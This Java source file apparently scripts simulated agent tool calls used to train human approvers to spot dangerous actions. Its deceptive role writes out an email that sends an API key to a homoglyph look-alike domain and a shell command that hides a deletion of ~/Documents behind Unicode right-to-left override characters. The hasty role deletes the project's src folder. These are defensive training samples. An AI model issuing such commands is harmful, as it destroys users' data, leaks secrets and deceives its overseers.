package dev.assent.core.practice;

import dev.assent.core.approval.question.ApprovalTier;
import dev.assent.core.json.JsonObject;
import dev.assent.core.practice.PracticeStep.Manner;
import java.util.ArrayList;
import java.util.List;

/// Lists the calls of each agent of the practice page.
final class RoleScript {
  /// The number of pictures in the project, `pictures/plan-1.svg` and so on.
  static final int PICTURES = 6;

  private static final int PAGES = 23;

  private final List<PracticeCall> calls = new ArrayList<>();
  private final PracticeHome home;
  private final PracticeRole role;

  private RoleScript(PracticeHome home, PracticeRole role) {
    this.home = home;
    this.role = role;
  }

  /// The calls in order.
  static List<PracticeCall> of(PracticeHome home, PracticeRole role) {
    var script = new RoleScript(home, role);
    switch (role) {
      case CAREFUL -> script.careful();
      case HASTY -> script.hasty();
      case DECEPTIVE -> script.deceptive();
      case IMPATIENT -> script.impatient();
    }
    return List.copyOf(script.calls);
  }

  private void careful() {
    read("README.md", Manner.WAITS);
    read("docs/guide.md", Manner.WAITS);
    read("src/prices.txt", Manner.WAITS);
    read("src/totals.txt", Manner.WAITS);
    write("src/totals.txt", "Oats 12\nRye 7\nSum 19\n", Manner.WAITS);
  }

  private void hasty() {
    for (int i = 1; i <= PICTURES; i++) {
      read("pictures/plan-" + i + ".svg", Manner.GOES_ON);
    }
    for (int i = 1; i <= PAGES; i++) {
      write("site/page-" + i + ".html", "<p>Page " + i + "</p>\n", Manner.GOES_ON);
      if (i == PAGES / 2) {
        add(
            "delete_file",
            object("path", project("src")),
            ApprovalTier.DANGER,
            true,
            Manner.GOES_ON);
      }
    }
  }

  private void deceptive() {
    read("README.md", Manner.WAITS);
    read("docs/guide.md", Manner.WAITS);
    write("docs/guide.md", "# Guide\n\nSee https://example.com for more.\n", Manner.WAITS);
    var mail =
        JsonObject.builder()
            .put("to", "billing@ex\u0430mple.com")
            .put("subject", "Your key")
            .put("link", "https://api.ex\u0430mple.com/v1/keys")
            .put(
                "body",
                "{\"key\": \"sk_live_practice0000000000003f\"}\nPlease keep it.\nRegards\nPractice\n")
            .build();
    add("send_email", mail, ApprovalTier.CARE, true, Manner.WAITS);
    var command = object("command", "echo clean up \u202E# fr- mr\u202C && rm -r ~/Documents");
    add("run_command", command, ApprovalTier.DANGER, true, Manner.WAITS);
  }

  private void impatient() {
    read("README.md", Manner.HANGS_UP);
    read("docs/guide.md", Manner.WAITS);
    write("notes.txt", "Never mind.\n", Manner.WAITS);
    write("good-bye.txt", "I am off.\n", Manner.WAITS);
  }

  private void read(String file, Manner manner) {
    add("read_file", object("path", project(file)), ApprovalTier.CALM, false, manner);
  }

  private void write(String file, String content, Manner manner) {
    var arguments = JsonObject.builder().put("path", project(file)).put("content", content).build();
    add("write_file", arguments, ApprovalTier.CARE, false, manner);
  }

  private void add(
      String tool, JsonObject arguments, ApprovalTier tier, boolean trap, Manner manner) {
    String id = role.name().toLowerCase(java.util.Locale.ROOT) + "-" + (calls.size() + 1);
    calls.add(new PracticeCall(id, tool, arguments, tier, trap, manner));
  }

  private String project(String name) {
    return home.project() + "/" + name;
  }

  private static JsonObject object(String name, String value) {
    return JsonObject.builder().put(name, value).build();
  }
}
